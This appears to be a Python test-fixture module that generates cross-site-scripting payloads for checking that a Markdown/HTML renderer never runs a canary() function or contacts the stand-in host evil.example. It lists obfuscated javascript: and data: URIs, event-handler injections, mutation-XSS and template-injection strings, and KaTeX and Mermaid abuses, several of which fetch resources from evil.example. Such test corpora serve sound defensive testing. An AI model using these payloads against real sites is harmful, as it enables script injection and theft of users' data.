"""Texts that try to run something, or to make the browser ask another host. Each would call `canary()`.

They are put together from what has to be tried rather than collected: every disguise of a script's address in the
places Markdown and HTML have for one, handlers on every kind of element, and what the libraries that
draw text (Lit, KaTeX, Mermaid, highlight.js) give a meaning of their own.
"""

from __future__ import annotations

HOST = "evil.example"
"""No page may ever ask this host for anything."""

ADDRESSES = (
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    " javascript:canary()",
    "\tjavascript:canary()",
    "java\tscript:canary()",
    "java&#10;script:canary()",
    "java&NewLine;script:canary()",
    "&#106;avascript:canary()",
    "&#x6A;&#x61;vascript:canary()",
    "javascript&colon;canary()",
    "javascript&#58;canary()",
    "javascript&#0000058canary()",
    "\x01javascript:canary()",
    "\x1fjavascript:canary()",
    "\u2028javascript:canary()",
    "\ufeffjavascript:canary()",
    "javascript://%0Acanary()",
    "javascript://evil.example/%0acanary()",
    "javascript:%63anary()",
    "javascript:void(canary())//https://ok.example",
    "view-source:javascript:canary()",
    "feed:javascript:canary()",
    "jar:javascript:canary()!/",
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>",
    "DATA:TEXT/HTML,<svg onload=canary()>",
    "data:application/xhtml+xml,<x/>",
    "data:;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "vbscript:canary()",
    "livescript:canary()",
    "mocha:canary()",
    "file:///etc/passwd",
    "filesystem:https://evil.example/temporary/x",
    "blob:https://evil.example/1",
    "ws://evil.example/x",
    "intent://evil.example#Intent;scheme=http;end",
    "//evil.example/a.png",
    "\\\\evil.example/a.png",
    "/\\evil.example/a.png",
    "https:evil.example/a.png",
    "https://evil.example/a.png?'\"><script>canary()</script>",
    "https://user:canary()@evil.example/a.png",
    "HTTP://EVIL.EXAMPLE/a.png",
)

PLACES = (
    "[text]({})",
    "[text](<{}>)",
    '[text]({} "title")',
    "[text][r]\n\n[r]: <{}>",
    "![alt](<{}>)",
    "![alt][r]\n\n[r]: <{}>",
    "[![alt](<{}>)](<{}>)",
    "<{}>",
    "{}",
    "| a |\n| - |\n| [x](<{}>) |",
    "- [ ] [x](<{}>)",
    "**[x](<{}>",
)

HANDLERS = (
    "onload onerror onclick onfocus onmouseover onanimationstart ontoggle onbegin onpointerenter onbeforetoggle "
    "onscrollend oncontentvisibilityautostatechange"
).split()

ELEMENTS = (
    "<img src=x {}>",
    "<svg {}>",
    "<svg><animate attributeName=x dur=1s {}></svg>",
    "<details open {}>",
    "<input autofocus {}>",
    "<body {}>",
    "<video {}><source src=x></video>",
    "<iframe {}></iframe>",
    "<style {}>@keyframes x{{}}</style>",
    "<x id=x tabindex=1 {}>#x",
)

WHOLE = (
    "<script>canary()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script\x0c>canary()</script\x0c>",
    "<!--><script>canary()</script>-->",
    "<![CDATA[<script>canary()</script>]]>",
    "<?xml version='1.0'?><script>canary()</script>",
    "</textarea></title></style><script>canary()</script>",
    "\"'><script>canary()</script>",
    "'-canary()-'",
    "`-canary()-`",
    "${canary()}",
    "{{constructor.constructor('canary()')()}}",
    "<%= canary() %>",
    "<iframe src=javascript:canary()></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data=javascript:canary()></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<form><button formaction=javascript:canary()>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>",
    "<math href=javascript:canary()>x</math>",
    "<svg><script>canary()</script></svg>",
    "<svg><use href=https://evil.example/x.svg#x></use></svg>",
    "<svg><foreignObject><iframe src=javascript:canary()></iframe></foreignObject></svg>",
    "<svg><a xlink:href=javascript:canary()><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<template><script>canary()</script></template>",
    "<div style='background:url(https://evil.example/x.png)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<picture><source srcset=https://evil.example/x.png><img></picture>",
    "<a href=javascript:canary()>x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<sub onclick=canary()>x</sub>",
    "<kbd><img src=x onerror=canary()></kbd>",
    "<br onload=canary()>",
    "<openai-chatkit></openai-chatkit>",
    "<slot onslotchange=canary()>",
    "<!--?lit$123456789$--><!--lit-part canary()-->",
    "lit$123456789$ {{lit-0}} <?>",
    "```<img/src=x onerror=canary()>\ncode\n```",
    "```html\n<script>canary()</script>\n```",
    '```js" onmouseover="canary()\ncode\n```',
    "```constructor\ncode\n```",
    "```__proto__\ncode\n```",
    '```mermaid\ngraph TD\n A[x] --> B\n click A call canary()\n click B "javascript:canary()"\n```',
    '```mermaid\ngraph TD\n A["<img src=x onerror=canary()>"]\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(//evil.example)'}}%%\ngraph TD\n A\n```",
    '```mermaid\ngraph TD\n A@{ img: "https://evil.example/x.png" }\n```',
    "$\\href{javascript:canary()}{x}$",
    "$$\\url{javascript:canary()}$$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlStyle{background:url(https://evil.example/x)}{x}$",
    "$\\htmlData{x=canary()}{x}$",
    "$\\text{<img src=x onerror=canary()>}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$\\unicode{<script>canary()</script>}$",
    '\\(\\class{x" onclick="canary()}{y}\\)',
    "[a]: https://evil.example/x.png\n![a]",
    "![a](https://evil.example/x.png)",
    "[![a](https://evil.example/x.png)](https://evil.example)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgpIi8+)",
    "<https://evil.example/<script>canary()</script>>",
    '[x](https://ok.example"onmouseover="canary())',
    "[x](https://ok.example 'a\" onclick=\"canary()')",
    "[<img src=x onerror=canary()>](https://ok.example)",
    "# <svg onload=canary()>",
    "> <svg onload=canary()>",
    "| <svg onload=canary()> |\n| - |\n| <img src=x onerror=canary()> |",
    "[^1]: <svg onload=canary()>\n\n[^1]",
    "\u202egpj.()yranac:tpircsavaj",
    "\x00<script>canary()</script>",
    "\ud83d<script>canary()</script>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "\ufffc\ufe00\ufffc<script>canary()</script>",
    "__proto__",
    "constructor",
    "toString",
    "lucide:<svg onload=canary()>",
    "lucide:constructor",
)


def payloads() -> list[str]:
    """All of them, each once; each address in five places, and each kind of element with four handlers."""
    links = [
        PLACES[(n + k) % len(PLACES)].replace("{}", address) for n, address in enumerate(ADDRESSES) for k in range(5)
    ]
    elements = [
        element.format(f"{HANDLERS[(n + k) % len(HANDLERS)]}=canary()")
        for n, element in enumerate(ELEMENTS)
        for k in range(4)
    ]
    return list(dict.fromkeys([*WHOLE, *elements, *links]))
